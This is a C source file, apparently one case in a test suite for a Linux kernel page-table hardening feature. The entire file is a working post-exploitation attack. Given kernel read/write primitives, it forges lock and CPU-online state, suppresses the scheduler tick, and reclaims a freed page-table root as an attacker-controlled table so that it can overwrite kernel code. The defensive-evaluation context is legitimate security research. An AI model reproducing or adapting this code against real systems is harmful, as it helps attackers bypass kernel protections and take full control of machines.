// SPDX-License-Identifier: GPL-2.0-only
/*
 * A root of an mm that is gone is free when every CPU has been asked since. That it was
 * is known by the way through one function, and that there are no two at once by a mutex,
 * which is ordinary memory. One comes from asking and waits for a lock that looks held. Its
 * mutex is made to look free, another one marks a root on which a CPU runs, and is kept
 * from asking. The first one goes on, and takes the mark for its own: the root is free, and
 * becomes a table of the attacker's, whose entries are the CPU's top-level entries.
 */
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"
#include "list.h"
#include "objects.h"

#ifdef __x86_64__
#define STRIKER_CPU	2
#define CLOSER_CPU	3
#define INDEX		100		/* of an entry of the root that nobody uses */
#define ENTRIES		512
#define OWN_REGION	0x100000000000UL
#define NR_TABLES	2048
#define LEAVE_FREE	290
#define WANTED_GONE	15
#define PATIENCE	3000		/* ms */
#define RECORD		32
#define RECORDS		(4096 / RECORD)
#define NR_PAGES_AT	(8192 * 8)
#define TICK_STOPPED	(1UL << 1)
#define FREE_FRAME	0x01
#define GONE_FRAME	0xf9
#define LINK_MASK	0xc0
#define ONLINE		"__cpu_online_mask"

static struct shared {
	volatile uint64_t snap[2 * ENTRIES];	/* with the half that user space runs on */
	volatile unsigned int ready, go, repaired, cmd, acked;
	volatile unsigned int close_now, closed, touched, stop;
	volatile uint64_t view, root_phys, nr;
	volatile uint64_t to;
	volatile unsigned int len;
	volatile unsigned char data[64];
} *sh;

static uint64_t half;			/* 4096 where user space has a root of its own */

/* ---- who runs on the root; all of it in one page of code ---- */

static void __attribute__((noinline, noreturn, aligned(4096))) strike(void)
{
	volatile uint64_t *root;
	volatile unsigned char *to;
	unsigned int i;

	sh->ready = 1;
	while (!sh->go)
		for (i = 0; i < 2 * ENTRIES; i += 64)
			(void)sh->snap[i];
	root = (volatile uint64_t *)(sh->view + sh->root_phys);
	for (i = sh->nr; i--;)
		if (i % ENTRIES != INDEX)
			root[i] = sh->snap[i];
	sh->repaired = 1;
	for (;;) {
		if (sh->cmd == sh->acked)
			continue;
		to = (volatile unsigned char *)(sh->view + sh->to);
		for (i = 0; i < sh->len; i++)
			to[i] = sh->data[i];
		sh->acked = sh->cmd;
	}
}

static pid_t start_striker(void)
{
	pid_t pid = fork();

	if (pid)
		return pid;
	setpgid(0, 0);
	stay_on_cpu(STRIKER_CPU);
	strike();
}

/* ---- tables ---- */

static int memfd;

static volatile char *place_of(unsigned int nr)
{
	return (volatile char *)OWN_REGION + nr * (2UL << 20) + INDEX * 4096;
}

static bool map_places(unsigned int from, unsigned int to)
{
	for (; from < to; from++)
		if (mmap((void *)place_of(from), 4096, PROT_READ | PROT_WRITE,
			 MAP_SHARED | MAP_FIXED_NOREPLACE, memfd, 0) == MAP_FAILED)
			return false;
	return true;
}

static void touch(unsigned int nr)
{
	volatile uint64_t *word = (volatile uint64_t *)(place_of(nr) + 4088);

	*word = 0;
}

/* ---- who closes, and then needs tables ---- */

static pid_t start_closer(int fd)
{
	unsigned int i;
	pid_t pid = fork();

	if (pid)
		return pid;
	setpgid(0, 0);
	stay_on_cpu(CLOSER_CPU);
	for (i = 0; i < NR_TABLES; i++)
		munmap((void *)place_of(i), 4096);
	map_places(0, NR_TABLES);
	touch(0);
	sh->ready = 2;
	while (!sh->close_now)
		;
	close(fd);
	sh->closed = 1;
	for (i = 1; i < NR_TABLES && !sh->stop; i++) {
		touch(i);
		sh->touched = i;
	}
	for (;;)
		pause();
}

/* ---- what the kernel says ---- */

static uint64_t nobody;

/* Records of mms that are gone: those that CPUs were asked for, or the others. */
static unsigned int count_records(bool asked, uint64_t *pgds, unsigned int max)
{
	uint64_t roots = ksymbol("kpkeys_roots"), page, words[512];
	unsigned int nr_pages = 0, i, at, nr = 0;

	kread(roots + NR_PAGES_AT, &nr_pages, sizeof(nr_pages));
	for (i = 0; i < nr_pages && i < 4; i++) {
		page = kread64(roots + i * 8);
		if (kread(page, words, sizeof(words)))
			return 0;
		for (at = 0; at < RECORDS; at++) {
			if (words[at * 4] != nobody || !!words[at * 4 + 2] != asked)
				continue;
			if (nr < max)
				pgds[nr] = words[at * 4 + 1];
			nr++;
		}
	}
	return nr;
}

static bool is_asked(uint64_t pgd)
{
	uint64_t pgds[256];
	unsigned int nr = count_records(true, pgds, 256);

	while (nr && nr <= 256)
		if (pgds[--nr] == pgd)
			return true;
	return false;
}

static unsigned int count_free(void)
{
	static unsigned char bytes[4096];
	uint64_t frames = kread64(ksymbol("kpkeys_frames")), page;
	unsigned int i, j, nr = 0;

	for (i = 0; i < (1UL << 30) / (4096 * 4096UL) + 1; i++) {
		page = kread64(frames + i * 8);
		if (kread(page, bytes, sizeof(bytes)))
			continue;
		for (j = 0; j < sizeof(bytes); j++)
			nr += bytes[j] == FREE_FRAME;
	}
	return nr;
}

static unsigned char byte_at(uint64_t addr)
{
	unsigned char byte = 0;

	kread(addr, &byte, sizeof(byte));
	return byte;
}

#define WAIT_FOR(condition)						\
({									\
	uint64_t end = now_ms() + PATIENCE;				\
	bool is;							\
									\
	while (!(is = (condition)) && now_ms() < end)			\
		;							\
	is;								\
})

/* ---- the steps ---- */

static uint64_t online, bury_lock, roots_lock, pgd_lock;

static void set_online(bool on)
{
	unsigned char byte = byte_at(online);

	byte = on ? byte | 1U << STRIKER_CPU : byte & ~(1U << STRIKER_CPU);
	kwrite(online, &byte, 1);
}

static void release_all(void)
{
	set_lock(pgd_lock, false);
	set_lock(roots_lock, false);
	set_online(true);
}

static bool store_by_striker(uint64_t addr, const void *data, size_t len)
{
	struct slot slot;

	if (kwalk(addr, LEAF, 0, &slot) || len > sizeof(sh->data))
		return false;
	sh->to = slot.phys;
	memcpy((void *)sh->data, data, len);
	sh->len = len;
	__sync_synchronize();
	sh->cmd++;
	return WAIT_FOR(sh->acked == sh->cmd);
}

static uint64_t make_view(void)
{
	uint64_t *first = (uint64_t *)place_of(0), *tables = first, phys, i;

	if (top_level() == LEVEL_PGD) {
		phys = user_page((void **)&tables);
		if (!phys)
			return 0;
		first[0] = phys | PTE_TABLE;
	}
	for (i = 0; i < 4; i++)
		tables[i] = i << 30 | PTE_TABLE | PTE_HUGE;
	return (uint64_t)INDEX * top_level_size();
}

static void kill_children(void)
{
	unsigned int i;
	pid_t pid;

	for (i = 0; i < 100 && count_records(false, NULL, 0) != WANTED_GONE; i++) {
		pid = fork();
		if (!pid)
			_exit(0);
		waitpid(pid, NULL, 0);
		usleep(30000);
	}
}

static struct {
	struct task striker;
	uint64_t root, frame;
	unsigned int nr;		/* of tables that are used */
} plan;

static pid_t start_both(void)
{
	pid_t pid = start_striker();
	char path[64];
	int fd;

	if (!WAIT_FOR(sh->ready == 1) || ktask(pid, &plan.striker))
		return -1;
	snprintf(path, sizeof(path), "/proc/%d/mem", pid);
	fd = open(path, O_RDONLY);
	if (fd < 0)
		return -1;
	pid = start_closer(fd);
	close(fd);
	return WAIT_FOR(sh->ready == 2) ? pid : -1;
}

static enum outcome begin(void)
{
	memfd = memfd_create("tables", 0);
	if (memfd < 0 || ftruncate(memfd, 4096) || !map_places(0, NR_TABLES))
		return broken("no room");
	touch(0);
	sh->view = make_view();
	if (start_both() < 0)
		return broken("no striker, or no closer");
	plan.root = plan.striker.pgd;
	plan.frame = frame_at((plan.root - direct_map_base()) / 4096);
	sh->root_phys = plan.root - direct_map_base();
	return WON;
}

/* As many roots as make the next one ask, and few tables besides them. */
static enum outcome fill(void)
{
	unsigned int free, gone, i, at;

	kill_children();
	gone = count_records(false, NULL, 0);
	if (gone != WANTED_GONE)
		return broken("%u roots are gone", gone);
	plan.nr = 1;
	free = count_free();
	for (i = 0; free > LEAVE_FREE && i < 8; i++) {
		for (at = free - LEAVE_FREE; at && plan.nr < NR_TABLES / 2; at--)
			touch(plan.nr++);
		free = count_free();
	}
	return WON;
}

static enum outcome remember_root(void)
{
	unsigned int i;

	kread(plan.root, (void *)sh->snap, sizeof(sh->snap));
	sh->nr = ENTRIES;
	for (i = ENTRIES; i < 2 * ENTRIES; i++)
		if (sh->snap[i]) {
			half = 4096;
			sh->nr = 2 * ENTRIES;
		}
	return WON;
}

/* The first one waits for the mutex, of somebody who runs. */
static enum outcome unlink_root(void)
{
	const int one = 1;

	kwrite64(bury_lock, plan.striker.task);
	set_lock(pgd_lock, true);
	kwrite(plan.striker.mm, &one, sizeof(one));
	sh->close_now = 1;
	if (WAIT_FOR((byte_at(plan.frame) & LINK_MASK) == 0))
		return WON;
	kwrite64(bury_lock, 0);
	return broken("the root was not unlinked: 0x%x", byte_at(plan.frame));
}

/* That all have answered, and he waits for the lock of roots, does not show. */
static enum outcome ask_once(void)
{
	int i;

	usleep(2000);
	for (i = 0; i < 5; i++)
		set_lock(roots_lock, true);
	WAIT_FOR(kread64(bury_lock + 8) >> 32);
	kwrite64(bury_lock, 0);
	if (!WAIT_FOR(count_records(true, NULL, 0) == WANTED_GONE))
		return broken("nobody asks for roots");
	usleep(100000);
	return WON;
}

/* The second one marks the root, and is kept from asking. */
static enum outcome mark_root(void)
{
	set_online(false);
	kwrite64(bury_lock, 0);
	set_lock(pgd_lock, false);
	if (!WAIT_FOR(byte_at(plan.frame) == GONE_FRAME))
		return broken("the root is not gone: 0x%x", byte_at(plan.frame));
	if (!WAIT_FOR(is_asked(plan.root)))
		return broken("nobody marked the root; %u touched, %u free", sh->touched, count_free());
	return WON;
}

/*
 * No tick comes to who runs on it, for its handlers would find nothing. Then the first
 * one goes on.
 */
static enum outcome free_root(void)
{
	uint64_t tick = ksymbol_cpu("tick_cpu_sched", STRIKER_CPU);

	if (tick)
		kwrite64(tick, kread64(tick) | TICK_STOPPED);
	usleep(20000);
	set_lock(roots_lock, false);
	return WAIT_FOR(byte_at(plan.frame) != GONE_FRAME) ? WON : lost("the root is still gone");
}

static enum outcome take_root(void)
{
	for (; plan.nr < NR_TABLES; plan.nr++) {
		touch(plan.nr);
		if (kread64(plan.root + half + INDEX * 8) & PTE_PRESENT)
			break;
	}
	if (plan.nr == NR_TABLES)
		return lost("the root 0x%x did not become ours", byte_at(plan.frame));
	__sync_synchronize();
	sh->go = 1;
	if (!WAIT_FOR(sh->repaired))
		return lost("a root in use became a table of ours, and its CPU does not say so");
	return WON;
}

static enum outcome go_through(enum outcome (*const steps[])(void))
{
	enum outcome outcome = WON;

	for (; *steps && outcome == WON; steps++)
		outcome = (*steps)();
	return outcome;
}

static enum outcome run(void)
{
	static enum outcome (*const before[])(void) = { begin, fill, remember_root, NULL };
	static enum outcome (*const held[])(void) = {
		unlink_root, ask_once, mark_root, free_root, take_root, NULL
	};
	enum outcome outcome = go_through(before);

	if (outcome != WON)
		return outcome;
	outcome = go_through(held);
	if (outcome != WON) {
		release_all();
		return outcome;
	}
	set_online(true);
	return patch_text_by(store_by_striker);
}

enum outcome bury_held(void)
{
	pid_t pid;

	if (sysconf(_SC_NPROCESSORS_ONLN) < 4)
		return skipped("needs four CPUs");
	stay_on_cpu(0);
	nobody = ksymbol("kpkeys_no_root");
	online = ksymbol(ONLINE);
	bury_lock = ksymbol("bury_lock");
	roots_lock = ksymbol("roots_lock");
	pgd_lock = ksymbol("pgd_lock");
	if (!nobody || !online || !bury_lock || !roots_lock || !pgd_lock)
		return broken("no records of roots");
	sh = mmap(NULL, sizeof(*sh), PROT_READ | PROT_WRITE,
		  MAP_SHARED | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);
	memset(sh, 0, sizeof(*sh));
	pid = fork();
	if (!pid) {
		setpgid(0, 0);
		run();
		sh->stop = 2;
		for (;;)
			pause();
	}
	while (sh->stop != 2)
		usleep(10000);
	return WON;
}
#else
enum outcome bury_held(void)
{
	return skipped("x86-64 only");
}
#endif
